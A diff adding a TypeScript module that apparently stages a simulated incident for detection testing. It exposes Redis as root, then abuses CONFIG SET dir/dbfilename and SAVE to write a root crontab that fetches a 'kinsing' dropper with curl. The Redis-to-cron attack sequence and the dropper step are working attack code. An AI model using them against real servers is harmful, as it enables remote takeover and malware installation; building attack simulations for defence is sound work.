@@ -1,0 +1,27 @@
+// A raw client tells Redis, which runs as root, to save its dump as a crontab; cron does the rest within the minute.
+import type { Dress } from '../../dress.ts'
+import { dropper } from '../../dropper.ts'
+import { openRedis, redisCommands } from '../../redis.ts'
+import type { Stage } from '../../stage.ts'
+
+export function dress(dress: Dress): void {
+  openRedis(dress, { bind: '0.0.0.0', user: 'root' })
+  dress.logins({
+    days: 9,
+    guesses: 30,
+    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9] }],
+  })
+}
+
+export async function plant(stage: Stage): Promise<void> {
+  const line = dropper(stage, { path: '/tmp/kinsing', fetch: 'curl' })
+  stage.mark('occurrence')
+  await redisCommands(stage, '203.0.113.40', [
+    ['CONFIG', 'SET', 'dir', '/var/spool/cron/crontabs'],
+    ['CONFIG', 'SET', 'dbfilename', 'root'],
+    ['SET', 'backup1', `\n\n\n* * * * * ${line}\n\n`],
+    ['SAVE'],
+  ])
+  // Debian's cron takes a crontab only with mode 600: as umask 077 of the service leaves it.
+  await stage.inside('i=0; until pgrep -x kinsing >/dev/null; do i=$((i+1)); [ $i -lt 700 ]; sleep 0.1; done', { timeoutMs: 90_000 })
+}
